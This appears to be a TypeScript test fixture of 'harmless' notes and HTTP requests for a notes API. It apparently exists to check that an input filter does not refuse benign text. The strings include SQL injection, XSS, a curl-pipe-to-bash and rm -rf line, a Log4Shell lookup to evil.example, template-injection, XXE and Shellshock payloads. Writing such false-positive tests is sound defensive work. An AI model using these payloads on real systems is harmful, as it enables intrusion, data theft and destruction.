/** What honest people send. Nothing of it may be refused. */
export const HARMLESS_NOTES: readonly string[] = [
  "How SQL injection works: ' OR 1=1 -- makes the WHERE clause true. Use bound parameters!",
  'SELECT u.name FROM users u UNION ALL SELECT table_name FROM information_schema.tables; -- tutorial',
  "DROP TABLE students; -- little Bobby Tables, xkcd 327: Robert'); DROP TABLE students;--",
  "SELECT pg_sleep(5); WAITFOR DELAY '0:0:5'; SELECT SLEEP(5)",
  '<script>alert("XSS")</script> is the classic, <img src=x onerror=alert(1)> the other one',
  '```html\n<svg/onload=alert(1)>\n<a href="javascript:void(0)">x</a>\n<iframe srcdoc="..."></iframe>\n```',
  '```sh\ncurl https://example.org | bash; cat /etc/passwd; rm -rf ../../var && whoami\n```',
  'Log4Shell: ${jndi:ldap://evil.example/a} and ${${lower:j}ndi:rmi://…}',
  'Jinja: {{ config.items() }} and {{7*7}}; ERB: <%= system("id") %>',
  "const f = (a) => a ? `x${a}` : 'y'; if (a || b && c) { return { '$where': 1 }; }",
  "It's 5 o'clock or 6 o'clock; Rock 'n' roll -- \"quotes\" & <angles>",
  'Path: C:\\Windows\\System32\\drivers, ../../etc/hosts, file:///etc/shadow',
  'Emoji 🎉, العربية, 中文, combining é, zero\u200bwidth, \u202Ertl',
  '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
  '() { :;}; /bin/bash -c "echo shellshock"',
];

export interface HarmlessRequest {
  readonly reason: string;
  readonly url: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly json?: unknown;
}

export const HARMLESS_REQUESTS: readonly HarmlessRequest[] = [
  {
    reason: 'a page of a list',
    url: '/api/notes?limit=20&cursor=eyJpZCI6IjEifQ',
  },
  {
    reason: 'a cursor with padding',
    url: '/api/notes?cursor=eyJ1cGRhdGVkQXQiOiIyMDI2In0%3D',
  },
  {
    reason: 'times',
    url: '/api/audit/records?from=2026-01-01T00:00:00.000Z&to=2026-02-01T00%3A00%3A00%2B01%3A00',
  },
  {
    reason: 'a search for SQL',
    url: `/api/search?q=${encodeURIComponent("' OR 1=1 -- union select")}`,
  },
  {
    reason: 'a search for a script',
    url: '/api/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  },
  {
    reason: 'a search with words of SQL',
    url: '/api/search?q=select+union+or+drop+table',
  },
  {
    reason: 'a tag of a programmer',
    url: '/api/notes?tag=c%2B%2B&tag=%27or%27',
  },
  {
    reason: 'an address',
    url: "/api/auth/users?email=sean.o'hara%40example.org",
  },
  {
    reason: 'an address with a plus',
    url: '/api/auth/users?email=a%2Bb%40example.org',
  },
  {
    reason: 'a name with words of SQL',
    url: '/api/auth/users?search=Anderson+or+Orlando',
  },
  {
    reason: 'a name with an apostrophe and a word',
    url: "/api/auth/users?search=O'Brien+and+sons",
  },
  {
    reason: 'why a value of the configuration goes',
    url: "/api/config/a/keys/b?reason=it's+old;+drop+table+of+limits",
  },
  { reason: 'a French name', url: "/api/auth/users?search=Jean+d'or+rouge" },
  {
    reason: 'a path to come back to',
    url: '/api/auth/oauth/company/start?returnTo=%2Fnotes%2F1%3Ftab%3Dhistory',
  },
  {
    reason: 'an answer of a provider',
    url: '/api/auth/oauth/company/callback?state=ab-_cd&code=4%2F0AX4XfWh--_&scope=openid+email&iss=https%3A%2F%2Fid.example',
  },
  {
    reason: 'an error of a provider',
    url: '/api/auth/oauth/company/callback?state=a&error=access_denied&error_description=The+user+said+%22no%22%3B+select+another',
  },
  {
    reason: 'a signed link',
    url: '/api/notes/uploads/3b241101-e2bb-4255-8caf-4136c566a962?signature=eyJh.eyJi.c-_d',
  },
  {
    reason: 'a key with dots and dashes',
    url: '/api/config/environments/production/keys/notes.list--limit_max',
  },
  {
    reason: 'an encoded space and letter',
    url: '/api/config/environments/my%20team/keys/gr%C3%B6%C3%9Fe',
  },
  {
    reason: 'a UUID',
    url: '/api/notes/3b241101-e2bb-4255-8caf-4136c566a962/versions/12',
  },
  {
    reason: 'a filter with an operator',
    url: '/api/audit/records?action=note.created&outcome=success|failure',
  },
  {
    reason: 'the headers of a browser',
    url: '/api/notes',
    headers: {
      'user-agent':
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      'accept-language': 'de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7',
      'accept-encoding': 'gzip, deflate, br, zstd',
      'sec-ch-ua': '"Chromium";v="140", "Not=A?Brand";v="24"',
      'sec-ch-ua-platform': '"Windows"',
      'sec-fetch-mode': 'cors',
      referer: "https://notes.example/search?q=' or 1=1 --<script>",
      origin: 'https://notes.example',
      cookie: `notes_csrf=a'; x="<script>"`,
      'if-none-match': `W/"x' or '1'='1"`,
      baggage: 'a=b;c=d',
    },
  },
  {
    reason: 'the headers of tools',
    url: '/api/notes',
    headers: {
      'user-agent':
        'curl/8.5.0 (x86_64-pc-linux-gnu) libcurl/8.5.0 OpenSSL/3.0.13',
      'idempotency-key': "it's-(select)-one",
      'cache-control': 'no-cache, max-age=0',
      priority: 'u=1, i',
    },
  },
  {
    reason: 'a password that looks like an attack',
    url: '/api/auth/login',
    method: 'POST',
    json: { email: "o'hara@example.org", password: "' or 1=1 -- <script>" },
  },
  {
    reason: 'a person with an apostrophe',
    url: '/api/auth/register',
    method: 'POST',
    json: {
      email: 'a@b.example',
      name: "Robert'); DROP TABLE students;--",
      password: 'x',
    },
  },
  {
    reason: 'a value of the configuration',
    url: '/api/config/environments/dev/keys/a',
    method: 'PUT',
    json: {
      value: { html: '<script>', sql: "select '1'='1'" },
      comment: "it's; drop table",
    },
  },
];
